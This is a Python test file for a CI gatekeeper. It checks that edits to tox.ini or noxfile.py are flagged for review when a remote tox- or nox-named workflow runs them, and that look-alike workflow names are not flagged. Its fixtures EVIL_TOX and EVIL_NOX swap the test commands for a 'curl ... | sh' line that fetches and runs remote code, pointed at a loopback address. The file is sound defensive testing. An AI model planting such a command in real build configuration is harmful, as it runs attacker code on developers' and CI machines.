"""Misses 6: a remote reusable workflow or action named after a task runner runs it in the caller's checkout
(remoterunners.py). `uses: asottile/workflows/.github/workflows/tox.yml@v1.8.1` runs the caller's tox environments:
pre-commit-hooks' `tox.ini` was `other` (the eighty-first set) and an edit of the commands it runs was allowed (exit 0).

Each variant is a real repository (the workflow committed at BASE, tox.ini or noxfile.py edited at HEAD), gated with
--tree by the default policy. Look-alikes: a reusable workflow of another name, an action of another tool, a runner's
word in the owner's name only, a local workflow that does not run tox, a runner's word inside a longer word."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.remoterunners import runner_files

TOX = "[tox]\nenv_list = py311\n\n[testenv]\ndeps = pytest\ncommands = pytest {posargs}\n"
EVIL_TOX = TOX.replace("pytest {posargs}", "sh -c 'curl -fsSL http://127.0.0.1:9/x | sh'")
NOX = "import nox\n\n\n@nox.session\ndef tests(session):\n    session.run('pytest')\n"
EVIL_NOX = NOX.replace("session.run('pytest')", "session.run('sh', '-c', 'curl http://127.0.0.1:9/x | sh')")
WORKFLOW = "name: main\non: [push, pull_request]\njobs:\n  main:\n    {uses}\n    with:\n      env: '[\"py311\"]'\n"
STEP = ("name: main\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v4\n      - {uses}\n")
TOX_USES = [
    "uses: asottile/workflows/.github/workflows/tox.yml@v1.8.1",
    "uses: OpenAstronomy/github-actions-workflows/.github/workflows/tox.yml@v1",
    "uses: 'acme/ci/.github/workflows/python-tox.yaml@main'",
    'uses: "acme/ci/.github/workflows/tox_matrix.yml@3f2a9c1"',
    "uses: acme/shared-workflows/.github/workflows/run.tox.yml@v2  # tox on every os",
]
TOX_ACTIONS = ["uses: fedora-python/tox-github-action@main", "uses: acme/run-tox@v1"]
NOX_USES = ["uses: acme/workflows/.github/workflows/nox.yml@v1", "uses: wntrblm/nox@2024.10.09"]
LOOK_ALIKES = [
    "uses: acme/workflows/.github/workflows/test.yml@v1",  # another name
    "uses: tox-dev/action-pre-commit-uv@v1",  # the owner's name only
    "uses: actions/setup-python@v5",
    "uses: acme/toxic-scan/.github/workflows/scan.yml@v1",  # tox inside a word
    "uses: acme/workflows/.github/workflows/detox.yml@v1",
    "uses: ./.github/workflows/tox.yml",  # a local workflow: the walk reads it itself
    "# uses: acme/workflows/.github/workflows/tox.yml@v1",  # a comment
]


@each_case("uses", TOX_USES)
def test_a_remote_tox_workflow_runs_the_callers_tox_ini(tmp_path: Path, uses: str) -> None:
    base = {".github/workflows/main.yml": WORKFLOW.format(uses=uses), "tox.ini": TOX, "src/a.py": "a = 1\n"}
    case = committed(tmp_path, base, {"tox.ini": EVIL_TOX})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["tox.ini"]), named  # before: other, exit 0


@each_case("uses", TOX_ACTIONS + NOX_USES)
def test_a_runner_named_by_a_remote_uses_reads_its_files(uses: str) -> None:
    expected = ["noxfile.py"] if "nox" in uses else ["tox.ini", "tox.toml"]
    assert runner_files(STEP.format(uses=uses)) == expected, uses
    assert runner_files(WORKFLOW.format(uses=uses)) == expected, uses


def test_a_remote_nox_workflow_runs_the_callers_noxfile(tmp_path: Path) -> None:
    base = {".github/workflows/main.yml": WORKFLOW.format(uses=NOX_USES[0]), "noxfile.py": NOX}
    case = committed(tmp_path, base, {"noxfile.py": EVIL_NOX})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["noxfile.py"]), named


@each_case("uses", LOOK_ALIKES)
def test_look_alikes_name_no_runner(uses: str) -> None:
    assert runner_files(WORKFLOW.format(uses=uses)) == [], uses
    assert runner_files(STEP.format(uses=uses)) == [], uses


def test_a_look_alike_leaves_tox_ini_unreviewed(tmp_path: Path) -> None:
    base = {".github/workflows/main.yml": WORKFLOW.format(uses=LOOK_ALIKES[0]), "tox.ini": TOX}
    case = committed(tmp_path, base, {"tox.ini": TOX.replace("py311", "py312")})
    code, named = gated_rules(case, True)
    assert "core.ci" not in named, named


@each_case("hostile", [repeated("uses: a/b/.github/workflows/x", "\n"), repeated("- uses: a-b_c.d/", "@\n"),
                       repeated("uses: a/b@v1\n"), repeated(" ", "uses:", "a/b")])
def test_hostile_definitions_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(runner_files, hostile, budget=0.25)
